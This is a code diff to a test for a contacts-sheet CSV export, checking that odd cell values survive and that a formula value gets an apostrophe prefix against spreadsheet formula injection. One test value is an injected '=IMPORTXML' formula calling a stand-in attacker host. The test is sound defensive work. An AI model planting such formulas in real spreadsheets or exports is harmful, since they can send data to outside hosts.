@@ -83,7 +83,9 @@ describe("a contacts sheet", () => {
   test("keeps numbers, formulas, newlines, commas, quotes and emoji as text (K2, D10)", async () => {
     const odd = ['=IMPORTXML("http://evil.example","//a")', "two\nlines", 'a "quoted", word', "😀 ::: *", " spaces "];
     const { pull } = await open([{ title: "P", rows: [header, ["k1", ...odd], ["k2", "N", "", 491712345678, true]] }]);
-    const table = readContactTable(textOf((await pull(null)).records[0]?.bytes));
+    const csv = textOf((await pull(null)).records[0]?.bytes);
+    expect(csv).toContain(`,"'=IMPORTXML(""http`);
+    const table = readContactTable(csv);
     const [first, second] = table.rows.map((row) => [...row.cells.values()]);
     expect(first?.slice(1)).toEqual([
       '=IMPORTXML("http://evil.example","//a")',
